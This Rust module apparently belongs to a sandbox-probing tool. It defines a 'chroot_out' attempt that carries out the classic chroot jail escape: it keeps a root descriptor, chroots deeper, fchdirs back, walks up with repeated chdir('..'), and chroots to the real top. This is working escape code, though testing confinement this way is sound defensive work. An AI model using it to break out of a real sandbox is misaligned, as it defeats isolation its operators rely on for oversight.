//! Mounts, old and new calls.

use std::os::fd::AsRawFd;

use nix::libc;

use crate::raw::syscall;
use crate::{Attempt, Found, errno};

pub const ATTEMPTS: &[Attempt] = &[("chroot_out", chroot_out)];

/// `chroot_out`: the oldest way out of a root: into a deeper one while a descriptor is kept, and
/// from there up to the top.
fn chroot_out(_: &[String]) -> Found {
    let root = std::fs::File::open("/").map_err(|error| errno(&error))?;
    let within = c"/tmp";
    syscall!(libc::SYS_chroot, within)?;
    nix::unistd::fchdir(&root)?;
    let _ = root.as_raw_fd();
    for _ in 0..64 {
        nix::unistd::chdir("..")?;
    }
    syscall!(libc::SYS_chroot, c".")?;
    Ok(std::fs::read_link("/proc/self/cwd")
        .map(|path| path.display().to_string())
        .unwrap_or_default())
}
